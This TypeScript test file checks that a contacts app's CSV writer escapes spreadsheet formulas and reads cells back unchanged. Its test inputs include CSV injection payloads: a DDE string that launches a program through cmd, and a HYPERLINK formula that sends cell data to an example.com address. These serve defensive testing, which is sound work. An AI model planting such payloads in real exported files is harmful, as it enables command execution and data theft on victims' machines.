import fc from 'fast-check'
import { readExcel } from '../../console/src/data/files/excel.ts'
import { readSheet, writeBadRowsCsv } from '../../console/src/data/files/sheet.ts'
import type { Contact } from '../../console/src/data/record-types.ts'
import { writeContactsCsv } from '../../console/src/pages/contacts/contacts-csv.ts'
import { readListTable } from '../../src/gateway/campaigns/list-body.ts'
import { readCsvCells } from '../../src/portable/read-csv.ts'
import { type Separator, writeCsvLine } from '../../src/portable/write-csv.ts'
import { xlsx } from '../console/xlsx.ts'

test.each([
  ['a formula', '=1+1', "'=1+1"],
  ['a formula in wide characters', '＝1+1', "'＝1+1"],
  ['a formula after a byte order mark', '\ufeff=1+1', "'\ufeff=1+1"],
  ['a formula after a line end', '\n=1+1', `"'\n'=1+1"`],
  ['a formula after blanks and a zero-width character', ' \u200b@A1', "' \u200b@A1"],
  ['a formula after a semicolon', 'x;=cmd', "x;'=cmd"],
  ['a formula after a quote', 'x;"=cmd', `"x;""'=cmd"`],
  ['a formula on a second line', 'x\n+1+cmd', `"x\n'+1+cmd"`],
  ['a formula after a tab', 'x\t-1', "x\t'-1"],
  ['a formula after a control character', '\u0085\u0001=1+1', "'\u0085\u0001=1+1"],
  ['a formula in small characters', '﹦1+1', "'﹦1+1"],
  ['a phone number', '+4915112345678', '+4915112345678'],
  ['a phone number after a semicolon', 'call;+4915112345678 now', 'call;+4915112345678 now'],
  ['a list with dashes', 'buy:\n- milk', '"buy:\n- milk"'],
  ['an equation', 'a = 1 + 1', 'a = 1 + 1'],
])('a cell with %s is written as $2', (_, text, cell) =>
  expect(writeCsvLine([text])).toBe(`${cell}\r\n`),
)

test.each([
  ['a formula in an object', { note: 'x;=cmd' }, `"{""note"":""x;'=cmd""}"`],
  ['a formula as a name in an object', { 'x;@cmd': 1 }, `"{""x;'@cmd"":1}"`],
  ['a formula in a list of texts', ['a', '=cmd'], `"a,'=cmd"`],
  ['a formula in a list of any values', [1, ';-cmd'], `"[1,"";'-cmd""]"`],
  ['a number', -1.5, '-1.5'],
])('a value is written to a cell (%s) as $2', (_, value, cell) =>
  expect(writeCsvLine([value])).toBe(`${cell}\r\n`),
)

test('column names are escaped, too', () => {
  expect(writeCsvLine(['=1+1', 'expand.device.name'])).toBe("'=1+1,expand.device.name\r\n")
})

const SEPARATORS: readonly Separator[] = [',', ';']

const FORMULAS = [
  '=HYPERLINK("http://example.com?"&A1,"click")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3',
  '@SUM(1)',
  '\t=1',
  '\r=1',
  '\n=1',
  '＝1',
  '＋１',
  '－1',
  '＠A1',
  ' =1',
  '\u00a0=1',
  '\u200b=1',
  '"=1',
  'x;=1',
  'x,=1',
  'x\t=1',
  'x\n@1',
  "'=1",
  "''=1",
  "x;'=1",
  "'x;=1",
  '-',
  '=',
  '+',
  '\ufeff',
]
const HARMLESS = [
  '+4915112345678',
  '+49 151 12345678',
  "O'Neill",
  "'Anna'",
  "'+4915112345678",
  'a = b',
  'Price: 10,- Euro',
  '10 - 2',
  'Anna-Maria',
  'a@example.com',
]

test.each(SEPARATORS)(
  'no cell of a file with %s begins a formula, and all are read again',
  (separator) => {
    for (const cell of FORMULAS) {
      const line = writeCsvLine([cell, 'x'], separator)
      const cellEnds = separator === ',' ? /[;\t\r\n]/ : /[,\t\r\n]/
      if (!cell.includes(separator))
        for (const part of [...line.split(cellEnds), ...line.split(separator)])
          expect(part.replace(/^"/, ''), line).not.toMatch(/^[\s\u200b\ufeff]*[=+@＝＋－＠-]/u)
      const head = ['phone', 'note'].join(separator)
      expect(readCsvCells(`${head}\r\n${line}`).rows[1]?.cells, line).toEqual([cell, 'x'])
    }
  },
)

test.each(SEPARATORS)(
  'a file with %s leaves numbers, names and prices as they are',
  (separator) => {
    for (const cell of HARMLESS)
      expect(writeCsvLine([cell], separator)).toBe(
        `${cell.includes(separator) ? `"${cell}"` : cell}\r\n`,
      )
  },
)

test.each(SEPARATORS)('any cells of a file with %s are read as they were written', (separator) => {
  const char = fc.constantFrom(...'=+-@\'";,|\t\n\r aä1＝－\u200b\ufeff\u00a0')
  const cell = fc.string({ unit: char, maxLength: 12 })
  fc.assert(
    fc.property(fc.array(cell, { minLength: 2, maxLength: 4 }), (cells) => {
      const head = writeCsvLine(['a', 'b', 'c', 'd', 'e'], separator)
      const { rows } = readCsvCells(head + writeCsvLine([...cells, 'x'], separator))
      expect(rows[1]?.cells).toEqual([...cells, 'x'])
    }),
    { numRuns: 3_000 },
  )
})

const contact = (name: string, more = {}) =>
  ({ name, phone: '+4915112345678', groups: [], opted_out: false, ...more }) as unknown as Contact

test('contacts with any names are exported and imported again', () => {
  const contacts = [...FORMULAS, ...HARMLESS].map((name) =>
    contact(name, { data: { '=title': name, note: `,${name}` } }),
  )
  const { head, rows } = readSheet(writeContactsCsv(contacts, String, []))
  expect(head).toEqual(['Name', 'Number', 'Groups', 'Opted out', '=title', 'note'])
  expect(rows).toEqual(
    contacts.map(({ name }) => [name, '+4915112345678', '', 'no', name, `,${name}`]),
  )
})

test('rows that an import left out are no formulas in the file to correct', () => {
  const sheet = { head: ['Name', '=Phone'], rows: [], lines: [] }
  const file = writeBadRowsCsv(sheet, [{ row: 2, cells: ['=1+1', '+49 (0)30'], why: '=why' }])
  expect(file).toContain(`Name,'=Phone,`)
  expect(file).toContain(`'=1+1,'+49 (0)30,2,'=why`)
  expect(readSheet(file).rows).toEqual([['=1+1', '+49 (0)30', '2', '=why']])
})

test('pocketsms send and an Excel file that was saved from an export have no apostrophe', async () => {
  const table = readListTable(`phone,name\n+4915112345678,'=HYPERLINK(1)\n`)
  expect(table.rows[0]?.cells).toEqual(['+4915112345678', '=HYPERLINK(1)'])
  const { rows } = await readExcel(xlsx([['Name'], ["'=HYPERLINK(1)"], ["'Anna"]]))
  expect(rows).toEqual([['=HYPERLINK(1)'], ["'Anna"]])
})

test('a cell of 100 kB of marks is written and read in a second', () => {
  for (const piece of ["'", "'=", ";'", ' ', ';=', "'\t", '\u200b=', ';"\'-']) {
    const before = performance.now()
    readCsvCells(`a;b\n${writeCsvLine([piece.repeat(100_000 / piece.length), 'x'], ';')}`)
    expect(performance.now() - before, piece).toBeLessThan(1_000)
  }
})
